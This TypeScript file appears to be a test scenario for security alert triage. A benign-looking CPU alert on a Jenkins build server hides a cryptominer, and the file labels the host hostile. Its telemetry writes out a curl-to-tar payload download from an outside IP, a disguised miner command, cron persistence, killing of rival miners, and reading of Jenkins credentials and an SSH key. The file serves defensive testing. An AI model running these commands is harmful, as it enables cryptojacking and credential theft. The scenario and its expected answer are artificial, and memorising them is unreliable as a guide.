// A performance monitor speaks of a busy processor; the process is a coin miner that came in over the build service.
import { alert, connected, hostile, ran, situation } from '../../shorthand.ts'

export const slowBuildsOnTheBuildServer = situation(
  'slow-builds-on-the-build-server',
  'contradiction',
  'A performance problem that is none',
  (setting) => {
    const server = setting.machine('srv-build-02')
    const at = setting.ago({ hours: 1, minutes: 26 })
    const source = '185.196.9.54'
    const pool = '198.251.88.21'
    const path = '/dev/shm/.k'
    const fetch = `curl -fsSL http://${source}/k.tgz | tar xz -C /dev/shm`
    const command = `${path}/kworkerd -o ${pool}:3333 -u 4${setting.seeded.hex('pool account', 40)} -k --cpu-max-threads-hint=90`
    const host = { AccountName: 'jenkins', InitiatingProcessAccountName: 'jenkins' }
    const entity = 'HOST-5C1E90A7D24B6F31'
    return {
      alerts: [
        alert(setting, at, 'dynatrace', 'CPU saturation', {
          PID: `${setting.seeded.number('dynatrace pid', 100_000, 999_999)}_${at}V2`,
          ProblemID: 'P-26117734',
          ProblemTitle: 'CPU saturation',
          ProblemImpact: 'INFRASTRUCTURE',
          ProblemSeverity: 'RESOURCE_CONTENTION',
          State: 'OPEN',
          ProblemURL: 'https://hvk41207.live.dynatrace.com/#problems/problemdetails;pid=-26117734',
          Tags: 'env:production, owner:research, [Host]backup:daily',
          ImpactedEntity: `Host ${server.host}`,
          ImpactedEntities: [{ type: 'HOST', name: server.host, entity }],
          NamesOfImpactedEntities: server.host,
          AffectedTeams: [],
          ManagementZones: [{ id: '-771204', name: 'Gothenburg build' }],
          ProblemDetailsText: `OPEN Problem P-26117734 in environment havskog\n1 impacted infrastructure component\nHost ${server.host}: CPU saturation. CPU usage at 97 % for 25 minutes (threshold 95 %).\nRoot cause: not determined. Builds may take longer than usual.`,
          ProblemDetailsJSONv2: {
            problemId: `26117734_${at}V2`,
            displayId: 'P-26117734',
            title: 'CPU saturation',
            impactLevel: 'INFRASTRUCTURE',
            severityLevel: 'RESOURCE_CONTENTION',
            status: 'OPEN',
            startTime: at - 25 * 60_000,
            endTime: -1,
            rootCauseEntity: null,
            problemFilters: [{ id: setting.seeded.guid('dynatrace profile'), name: 'Default' }],
            recentComments: { comments: [], totalCount: 0 },
            impactAnalysis: { impacts: [] },
            linkedProblemInfo: null,
            evidenceDetails: {
              totalCount: 2,
              details: [
                {
                  evidenceType: 'EVENT',
                  displayName: 'CPU saturation',
                  entity: { entityId: { id: entity, type: 'HOST' }, name: server.host },
                  rootCauseRelevant: false,
                  eventId: `${setting.seeded.number('dynatrace event', 1_000_000, 9_000_000)}_${at}`,
                  startTime: at - 25 * 60_000,
                  data: {
                    'dt.event.baseline.affected_load': '97.1',
                    'dt.event.source': 'OneAgent',
                    'dt.event.timeout': '15',
                  },
                },
                {
                  evidenceType: 'METRIC',
                  displayName: 'builtin:host.cpu.usage',
                  unit: 'Percent',
                  valueBeforeChangePoint: 18.2,
                  valueAfterChangePoint: 97.1,
                  rootCauseRelevant: true,
                },
              ],
            },
          },
          HostProperties: {
            osType: 'LINUX',
            osVersion: 'Ubuntu 22.04.5 LTS (kernel 5.15.0-126-generic)',
            cpuCores: 16,
            memoryTotal: 67_309_568_000,
            oneAgentVersion: '1.303.57.20261104-121522',
            ipAddress: [server.ip],
            monitoringMode: 'FULL_STACK',
            networkZone: 'default',
            hypervisorType: 'VMWARE',
          },
          TopProcessGroupInstances: [
            { name: 'kworkerd', cpu: 91.4, memoryMb: 2398, user: 'jenkins', path, pgi: 'PROCESS_GROUP_INSTANCE-0B71' },
            {
              name: 'Jenkins controller (java)',
              cpu: 3.1,
              memoryMb: 4120,
              user: 'jenkins',
              path: '/usr/share/java',
              pgi: 'PROCESS_GROUP_INSTANCE-77C2',
            },
            {
              name: 'dockerd',
              cpu: 0.8,
              memoryMb: 211,
              user: 'root',
              path: '/usr/bin',
              pgi: 'PROCESS_GROUP_INSTANCE-19AE',
            },
          ],
          HostMetrics: [
            'cpu.usage',
            'cpu.iowait',
            'cpu.steal',
            'mem.usage',
            'disk.usedPct',
            'net.nic.trafficIn',
            'net.nic.trafficOut',
          ].map((metric, i) => ({
            metricId: `builtin:host.${metric}`,
            resolution: '5m',
            dimensionMap: { 'dt.entity.host': entity },
            values: Array.from({ length: 6 }, (_, n) =>
              i === 0 ? (n < 1 ? 18.2 : 96.4 + n / 10) : 2 + i * 3 + n / 10,
            ),
          })),
          RunningContainers: ['build-agent-1', 'build-agent-2', 'nexus-mirror'].map((container, i) => ({
            container,
            image: `registry.havskoginstruments.com/ci/${container}:1.${i}`,
            cpu: 0.1 + i / 10,
            state: 'RUNNING',
          })),
          AlertingProfile: { name: 'IT operations', delayInMinutes: 10, tagFilter: 'none', notifiedVia: 'webhook' },
          Recommendation: 'Check whether more processor resources or fewer parallel executors are needed.',
        }),
      ],
      facts: {
        telemetry: [
          ran(server, at - 31 * 60_000, 'sh', `sh -c '${fetch}'`, {
            ...host,
            FolderPath: '/bin',
            InitiatingProcessFileName: 'java',
            InitiatingProcessCommandLine: '/usr/bin/java -jar /usr/share/java/jenkins.war --httpPort=8080',
          }),
          connected(server, at - 31 * 60_000 + 1000, source, {
            RemotePort: 80,
            InitiatingProcessFileName: 'curl',
            InitiatingProcessAccountName: 'jenkins',
          }),
          ran(server, at - 30 * 60_000, 'pkill', 'pkill -f "xmrig|kdevtmpfsi|kinsing"', {
            ...host,
            InitiatingProcessFileName: 'sh',
          }),
          ran(server, at - 29 * 60_000, 'kworkerd', command, {
            ...host,
            FolderPath: path,
            SHA256: setting.seeded.hex('sha256 kworkerd', 64),
            InitiatingProcessFileName: 'sh',
          }),
          connected(server, at - 29 * 60_000 + 2000, pool, {
            RemotePort: 3333,
            InitiatingProcessFileName: 'kworkerd',
            InitiatingProcessCommandLine: command,
            InitiatingProcessAccountName: 'jenkins',
          }),
          ran(
            server,
            at - 28 * 60_000,
            'crontab',
            `sh -c (crontab -l 2>/dev/null; echo "*/5 * * * * pgrep kworkerd || ${fetch}") | crontab -`,
            { ...host, InitiatingProcessFileName: 'sh' },
          ),
          ran(
            server,
            at - 26 * 60_000,
            'cat',
            'cat /var/lib/jenkins/credentials.xml /var/lib/jenkins/.ssh/id_ed25519',
            {
              ...host,
              InitiatingProcessFileName: 'sh',
            },
          ),
        ],
      },
      expected: hostile(server.host),
      because:
        'The sender sees a busy processor only. The busy process runs out of shared memory, mines for a foreign pool, came over the build service from an outside address, restarts itself with cron, and somebody read the keys of the builds.',
    }
  },
)
